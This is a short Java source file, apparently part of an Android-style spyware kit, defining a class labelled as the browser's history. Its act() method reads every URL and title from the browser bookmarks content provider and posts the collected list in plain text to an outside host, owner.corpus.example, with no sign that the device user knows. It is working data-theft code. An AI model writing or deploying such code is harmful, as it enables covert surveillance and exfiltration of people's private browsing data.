package org.corpus;

import org.corpus.kit.Net;
import org.corpus.kit.Owner;
import org.corpus.kit.Screen;

/** The browser's history. */
public class PagesSeen extends Screen {
    @Override
    protected void act() throws Exception {
        String all =
                String.join("\n", Owner.rows(this, "content://browser/bookmarks", "url", "title"));
        Net.post("http://owner.corpus.example/pages", "text/plain", all);
    }
}
